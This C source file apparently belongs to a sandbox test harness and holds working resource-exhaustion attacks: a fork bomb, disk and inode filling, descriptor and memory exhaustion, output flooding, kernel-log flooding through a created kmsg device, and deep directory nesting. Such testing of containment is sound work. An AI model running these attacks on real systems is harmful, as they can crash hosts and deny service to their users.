// Using up what there is of something.
#include "attack.h"
#include <sys/resource.h>

static void raise_limit(int what) {
    struct rlimit limit = {1 << 20, 1 << 20};
    if (setrlimit(what, &limit)) {
        getrlimit(what, &limit);
        limit.rlim_cur = limit.rlim_max;
        setrlimit(what, &limit);
    }
}

// descriptors DIR COUNT: so many files held open.
static int descriptors(int argc, char **argv) {
    raise_limit(RLIMIT_NOFILE);
    int wanted = argc > 2 ? atoi(argv[2]) : 1000, held = 0;
    char path[200];
    for (int index = 0; index < wanted; index++) {
        snprintf(path, sizeof path, "%s/f%d", argc > 1 ? argv[1] : "/tmp", index);
        if (open(path, O_RDWR | O_CREAT | O_CLOEXEC, 0644) < 0) break;
        held++;
    }
    note(held > 0, "%d held", held);
    return 0;
}

// files DIR: names until there is no room for one more.
static int files(int argc, char **argv) {
    char path[300], name[200];
    int made = 0;
    memset(name, 'n', 180), name[180] = 0;
    for (; made < 100000; made++) {
        snprintf(path, sizeof path, "%s/%s%d", argc > 1 ? argv[1] : "/tmp", name, made);
        if (mknod(path, S_IFREG | 0644, 0)) break;
    }
    note(made > 0, "%d made, then %s", made, strerror(errno));
    return 0;
}

// fill FILE MIB: writes until there is no room, at most so much; then a file as large as there can be, without content.
static int fill(int argc, char **argv) {
    static char block[1 << 20];
    memset(block, 'x', sizeof block);
    int fd = open(argv[1], O_RDWR | O_CREAT | O_CLOEXEC, 0644), written = 0, most = argc > 2 ? atoi(argv[2]) : 16;
    while (written < most && write(fd, block, sizeof block) == sizeof block) written++;
    note(written > 0, "%d MiB, then %s", written, strerror(errno));
    note(fsync(fd) == 0, "fsync");
    note(ftruncate(fd, INT64_MAX) == 0, "ftruncate");
    note(fallocate(fd, 0, 0, 1L << 45) == 0, "fallocate");
    note(pwrite(fd, block, 10, INT64_MAX - 20) > 0, "pwrite");
    return 0;
}

// fork-bomb SECONDS
static int fork_bomb(int argc, char **argv) {
    raise_limit(RLIMIT_NPROC);
    double end = now() + (argc > 1 ? atof(argv[1]) : 1);
    unsigned forks = 0;
    while (now() < end)
        if (fork() > 0) forks++;
    if (getppid() == 1) note(forks > 0, "%u forks", forks);
    return 0;
}

// memory MIB: so much of it, touched.
static int memory(int argc, char **argv) {
    size_t size = (argc > 1 ? atol(argv[1]) : 256L) << 20;
    char *bytes = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
    for (size_t at = 0; bytes != MAP_FAILED && at < size; at += 4096) bytes[at] = 1;
    note(bytes != MAP_FAILED, "touched");
    return 0;
}

// output MIB: as fast as it goes, on both streams.
static int output(int argc, char **argv) {
    static char block[1 << 16];
    memset(block, 'o', sizeof block);
    size_t left = (argc > 1 ? atol(argv[1]) : 16L) << 20, written = 0;
    while (written < left) {
        ssize_t count = write(written / sizeof block % 4 ? 1 : 2, block, sizeof block);
        if (count <= 0) break;
        written += count;
    }
    note(written == left, "%zu bytes", written);
    return 0;
}

// kernel-log COUNT: lines into the kernel's log, of the highest priority.
static int kernel_log(int argc, char **argv) {
    mknod("/dev/own-kmsg", S_IFCHR | 0600, makedev(1, 11));
    int fd = open("/dev/kmsg", O_WRONLY | O_CLOEXEC), lines = argc > 1 ? atoi(argv[1]) : 1000, written = 0;
    if (fd < 0) fd = open("/dev/own-kmsg", O_WRONLY | O_CLOEXEC);
    char line[800];
    memset(line, 'k', sizeof line);
    memcpy(line, "<0>attack ", 10);
    for (int index = 0; index < lines; index++) written += write(fd, line, sizeof line) > 0;
    note(written > 0, "%d lines", written);
    return 0;
}

// deep DIR: directories in directories, until a path or the disk has no room.
static int deep(int argc, char **argv) {
    int depth = 0;
    if (argc < 2 || chdir(argv[1])) return 1;
    for (; depth < 500; depth++)
        if (mkdir("dddddddddd", 0755) || chdir("dddddddddd")) break;
    char path[8192];
    note(getcwd(path, sizeof path) != NULL, "path");
    note(depth > 0, "%d deep", depth);
    return 0;
}

const struct attack exhaust_attacks[] = {{"descriptors", descriptors}, {"files", files}, {"fill", fill}, {"fork-bomb", fork_bomb}, {"hog", memory}, {"output", output}, {"kernel-log", kernel_log}, {"deep", deep}, {NULL, NULL}};
